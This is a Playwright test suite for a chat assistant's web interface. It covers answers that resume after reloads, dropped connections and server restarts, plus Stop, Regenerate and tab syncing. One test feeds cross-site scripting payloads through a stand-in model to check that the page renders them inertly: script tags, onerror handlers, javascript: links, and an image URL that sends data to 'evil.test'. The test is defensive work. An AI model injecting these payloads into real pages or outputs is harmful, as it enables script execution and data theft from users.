import type { Page } from '@playwright/test'
import type { Turn } from '../../assistant/schemas.ts'
import { writeScripted } from '../../assistant/scripted-model.ts'
import { startFaultyProxy } from '../support/faulty-proxy.ts'
import { expect, test as base } from '../support/fixtures.ts'
import { openaiDelta, startModelStandIn } from '../support/model-stand-in.ts'
import { ServerProcess } from '../support/server-process.ts'

/** No test reaches a real model, whatever the environment says. An answer takes about five seconds. */
const environment = { OPENAI_MODEL: '', ANTHROPIC_MODEL: '', ASSISTANT_PACE: '60' }

interface Fixtures {
  faults: Awaited<ReturnType<typeof startFaultyProxy>>
  standIn: Awaited<ReturnType<typeof startModelStandIn>>
}

const test = base.extend<Fixtures>({
  server: async ({}, use) => {
    const server = new ServerProcess(environment)
    await server.start()
    await use(server)
    await server.dispose()
  },
  faults: async ({ server }, use) => {
    const proxy = await startFaultyProxy(server.url)
    await use(proxy)
    await proxy.stop()
  },
})

/** With a model that the test plays. */
const modelTest = base.extend<Fixtures>({
  standIn: async ({}, use) => {
    const standIn = await startModelStandIn()
    await use(standIn)
    await standIn.stop()
  },
  server: async ({ standIn }, use) => {
    const server = new ServerProcess({
      OPENAI_MODEL: 'test-model',
      OPENAI_BASE_URL: standIn.url,
      OPENAI_API_KEY: 'sk-secret-0123456789',
    })
    await server.start()
    await use(server)
    await server.dispose()
  },
})

const prompt = 'How does this answer survive?'
const state = (page: Page) => page.locator('.turn .state').last()
const markdown = (page: Page) => page.locator('.turn .markdown').last()

async function ask(page: Page, text = prompt): Promise<void> {
  await page.getByLabel('Message', { exact: true }).fill(text)
  await page.keyboard.press('Enter')
}

/** Begins a conversation and waits until its first answer is in the middle. */
async function begin(page: Page, text = prompt): Promise<void> {
  await page.getByRole('button', { name: 'New conversation' }).click()
  await expect(page.getByRole('heading', { name: 'How can I help?' })).toBeVisible()
  await ask(page, text)
  await untilHalfWritten(page)
}

async function untilHalfWritten(page: Page): Promise<void> {
  await expect(markdown(page).getByRole('heading').first()).toBeVisible()
  await expect(state(page)).toHaveText('Writing')
}

/** The last turn of the page's conversation, as stored. */
async function storedTurn(page: Page): Promise<Turn> {
  const id = new URL(page.url()).searchParams.get('c')
  const response = await fetch(`${new URL(page.url()).origin}/assistant/api/conversations/${id}`)
  return ((await response.json()) as { turns: Turn[] }).turns.at(-1)!
}

/** The answer is whole, in the store and in the page, and was generated once. */
async function expectWhole(page: Page): Promise<void> {
  await expect(state(page)).toHaveText('Complete')
  const turn = await storedTurn(page)
  expect(turn.text).toBe(writeScripted(turn.prompt, turn.id))
  expect(turn.generations).toBe(1)
  const words = turn.text.match(/\S+/g)!.length
  await expect(page.locator('.turn .details').last()).toContainText(
    `${words} words · generated once`,
  )
  // The same as in a page that loads it all at once.
  const shown = await markdown(page).innerText()
  await page.reload()
  await expect(state(page)).toHaveText('Complete')
  await expect.poll(() => markdown(page).innerText()).toBe(shown)
}

test('an answer continues after a reload in the middle', async ({ page }) => {
  const posts: string[] = []
  page.on('request', (request) => void (request.method() === 'POST' && posts.push(request.url())))
  await page.goto('/assistant/')
  await begin(page)
  await page.reload()
  await untilHalfWritten(page)
  await expectWhole(page)
  expect(posts).toHaveLength(1)
})

test('an answer continues after its connection was cut', async ({ page, faults }) => {
  const requests: string[] = []
  page.on('request', (request) => {
    if (request.url().includes('/api/answers/')) requests.push(request.method())
  })
  await page.goto(`${faults.url}/assistant/`)
  await begin(page)
  faults.cut()
  await expect.poll(() => requests).toEqual(['POST', 'GET'])
  await expect(state(page)).toHaveText('Complete')
  await expect(page.locator('.turn .details').last()).toContainText('2 connections')
  await expectWhole(page)
})

test('a killed server continues an answer with the next word', async ({ page, server }) => {
  await page.goto('/assistant/')
  await begin(page)
  await server.kill()
  await expect(state(page)).toHaveText(/^Reconnecting/)
  await server.start()
  await expect(state(page)).toHaveText('Writing')
  await expectWhole(page)
})

test('a lost response to the POST does not generate a second answer', async ({ page, faults }) => {
  const requests: string[] = []
  page.on('request', (request) => {
    if (request.url().includes('/api/answers/')) requests.push(request.method())
  })
  await page.goto(`${faults.url}/assistant/`)
  faults.loseResponseTo('POST /assistant/api/answers/')
  await begin(page)
  expect(requests).toEqual(['POST', 'POST'])
  await expectWhole(page)
})

test('Stop ends the answer in both tabs, and Regenerate writes another', async ({ page }) => {
  await page.goto('/assistant/')
  await begin(page)
  const second = await page.context().newPage()
  await second.goto(page.url())
  await untilHalfWritten(second)
  await second.getByRole('button', { name: 'Stop' }).click()
  for (const each of [page, second]) await expect(state(each)).toHaveText('Stopped')
  const stopped = await storedTurn(page)
  expect(stopped.status).toBe('stopped')
  const whole = writeScripted(prompt, stopped.id)
  expect(whole.startsWith(stopped.text)).toBe(true)
  expect(stopped.text.length).toBeLessThan(whole.length)
  await expect.poll(() => markdown(page).innerText()).toBe(await markdown(second).innerText())

  await page.getByRole('button', { name: 'Regenerate' }).click()
  for (const each of [page, second]) {
    await untilHalfWritten(each)
    await expect(each.locator('.turn')).toHaveCount(1)
  }
  expect((await storedTurn(page)).id).not.toBe(stopped.id)
  await page.keyboard.press('Escape')
  for (const each of [page, second]) await expect(state(each)).toHaveText('Stopped')
})

test('prompts of two tabs appear in both', async ({ page }) => {
  await page.goto('/assistant/')
  await begin(page)
  const second = await page.context().newPage()
  await second.goto(page.url())
  await untilHalfWritten(second)
  await expectWhole(second)
  await expect(state(page)).toHaveText('Complete')
  await ask(second, 'Plan a weekend in Lisbon')
  for (const each of [second, page]) {
    await expect(each.locator('.prompt p')).toHaveText([prompt, 'Plan a weekend in Lisbon'])
    await untilHalfWritten(each)
  }
  await page.keyboard.press('Escape')
  for (const each of [page, second]) await expect(state(each)).toHaveText('Stopped')
  await expect(second.locator('.prompt p')).toHaveCount(2)
})

test('the end stays in view until the user scrolls up', async ({ page }) => {
  await page.setViewportSize({ width: 390, height: 700 })
  await page.goto('/assistant/')
  await page.locator('summary').click()
  await begin(page)
  const scroller = page.locator('#scroller')
  const distance = () =>
    scroller.evaluate((node) => node.scrollHeight - node.scrollTop - node.clientHeight)
  await expect(markdown(page).locator('figure').first()).toBeVisible()
  await expect.poll(distance).toBeLessThan(2)
  await scroller.hover()
  await page.mouse.wheel(0, -300)
  await expect(page.getByRole('button', { name: 'Latest words' })).toBeVisible()
  const before = await scroller.evaluate((node) => node.scrollTop)
  await expect(markdown(page).locator('figure').nth(1)).toBeAttached()
  expect(await scroller.evaluate((node) => node.scrollTop)).toBe(before)
  await page.getByRole('button', { name: 'Latest words' }).click()
  await expect.poll(distance).toBeLessThan(2)
})

modelTest('a model’s HTML, links and images do nothing', async ({ page, standIn }) => {
  const requested: string[] = []
  page.on('request', (request) => requested.push(request.url()))
  page.on('dialog', (dialog) => void dialog.accept().then(() => requested.push('dialog')))
  await page.goto('/assistant/')
  await page.getByRole('button', { name: 'New conversation' }).click()
  await ask(page, 'hello')
  const call = await standIn.next()
  for (const line of [
    '<script>document.title = "script"</script>',
    '<img src=x onerror="document.title=\'image\'">',
    '![](https://evil.test/steal?text=secret) ![x](x" onerror="alert(1))',
    '[link](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>)',
    '[relative](/assistant/api/model) [good](https://example.com/)',
    '<iframe src="https://evil.test/"></iframe><form action="https://evil.test/"><button>Log in',
    '<style>body { display: none }</style><svg/onload=alert(1)>',
    '| <img src=y onerror=alert(1)> | b |\n| --- | --- |\n| <b id="text">c</b> | `<i>` |',
    '```html"onmouseover="alert(1)\n<script>alert(1)</script>',
  ])
    call.send(openaiDelta(`${line}\n\n`))
  // The fence is still open.
  await expect(markdown(page).locator('figure')).toContainText('<script>alert(1)</script>')
  await expect(markdown(page)).toContainText('<iframe src="https://evil.test/">')
  call.send(openaiDelta('```\n\nThe end.'))
  call.send('[DONE]')
  await expect(state(page)).toHaveText('Complete')
  await expect(markdown(page)).toContainText('The end.')
  await expect(
    markdown(page).locator('script, img, iframe, form, style, svg, input, [id], [onerror]'),
  ).toHaveCount(0)
  const links = markdown(page).locator('a[href]')
  await expect(links).toHaveCount(1)
  await expect(links).toHaveAttribute('href', 'https://example.com/')
  await expect(links).toHaveAttribute('rel', 'noopener noreferrer nofollow')
  await expect(page).toHaveTitle(/Assistant/)
  expect(requested.filter((url) => url === 'dialog' || url.includes('evil'))).toEqual([])
  // Copied as it is.
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write'])
  await page.getByRole('button', { name: 'Copy' }).click()
  await expect(page.getByRole('button', { name: 'Copied' })).toBeVisible()
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(
    '<script>alert(1)</script>',
  )
})

modelTest(
  'a failure of the model is shown, and Regenerate asks again',
  async ({ page, standIn }) => {
    await page.goto('/assistant/')
    await page.getByRole('button', { name: 'New conversation' }).click()
    await ask(page, 'hello')
    const call = await standIn.next()
    call.send(openaiDelta('The first words'))
    call.send({ error: { message: 'The engine is overloaded' } })
    await expect(state(page)).toHaveText('Failed')
    await expect(page.locator('.turn')).toContainText('The engine is overloaded')
    await expect(markdown(page)).toHaveText('The first words')
    await page.getByRole('button', { name: 'Regenerate' }).click()
    const again = await standIn.next()
    again.send(openaiDelta('Now it works.'))
    again.send('[DONE]')
    await expect(state(page)).toHaveText('Complete')
    await expect(markdown(page)).toHaveText('Now it works.')
    await expect(page.locator('.turn .problem')).toBeHidden()
  },
)
